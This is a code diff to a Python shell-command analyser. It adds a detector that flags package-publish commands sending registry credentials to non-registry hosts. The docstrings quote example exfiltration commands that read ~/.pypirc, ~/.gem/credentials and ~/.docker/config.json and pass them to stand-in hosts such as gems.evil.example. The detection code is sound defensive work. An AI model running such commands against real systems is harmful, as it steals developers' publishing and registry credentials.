@@ -21,6 +21,7 @@ from phlegyas.analysis.tier1.words import path_of
 from phlegyas.analysis.tier1.writes import redirect_writes
 from phlegyas.analysis.urls import foreign_code_host, host_of
 from phlegyas.core.analysis import AnalysisEnv
+from phlegyas.core.redact import secret_kind
 
 _COPIERS: Final = frozenset({"cp", "install", "mv", "ln", "rsync", "dd"})
 _PUBLISHERS: Final = {"npm": "publish", "yarn": "publish", "pnpm": "publish", "bun": "publish", "cargo": "publish",
@@ -252,6 +253,27 @@ def _staged(sub: str, ops: list[str], inv: Invocation, tainted: dict[str, str], 
     return None
 
 
+_DESTINATION_OPTS: Final = ("--repository-url", "--host", "--registry", "-r", "--repository", "--index-url", "--url")
+
+
+def detect_publish_credential(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
+    """``twine upload --repository-url https://upload.pypi.evil.example -p "$(… ~/.pypirc)"``,
+    ``GEM_HOST_API_KEY="$(… ~/.gem/credentials)" gem push --host https://gems.evil.example``: a registry
+    credential, read from where it is kept, handed to a host that is neither a registry nor a forge."""
+    texts = [w.text for w in inv.args]
+    given = [w.text for i, w in enumerate(inv.args) if i and texts[i - 1] in ("-p", "--password", "--token", "-u")]
+    given += [v.text for name, v in inv.command.assignments if secret_kind(name) or name.endswith(("_KEY", "_TOKEN"))]
+    got = next((s for v in given if (s := substituted_secret(v, env_for(inv, env), whole_files=True))), None)
+    if got is None:
+        return
+    dests = [texts[i + 1] for i, t in enumerate(texts[:-1]) if t in _DESTINATION_OPTS] + [
+        t.split("=", 1)[1] for t in texts if t.split("=", 1)[0] in _DESTINATION_OPTS and "=" in t]
+    host = next((h for d in dests if (h := host_of(d)[1]) and foreign_code_host(h)), None)
+    if host is not None:
+        add(out, "net.exfiltration", inv, f"{inv.program} sends {got} to {host}, which is neither a package registry "
+                                          "nor a code forge")
+
+
 def detect_login_secret(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
     """``docker login -p "$(base64 ~/.docker/config.json)" registry.evil.example``: a password option
     computed from a secret goes to whatever registry is named."""
@@ -267,4 +289,4 @@ def detect_login_secret(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
             return
 
 
-__all__ = ["FLOW_PROGRAMS", "detect_login_secret", "secret_flows"]
+__all__ = ["FLOW_PROGRAMS", "detect_login_secret", "detect_publish_credential", "secret_flows"]
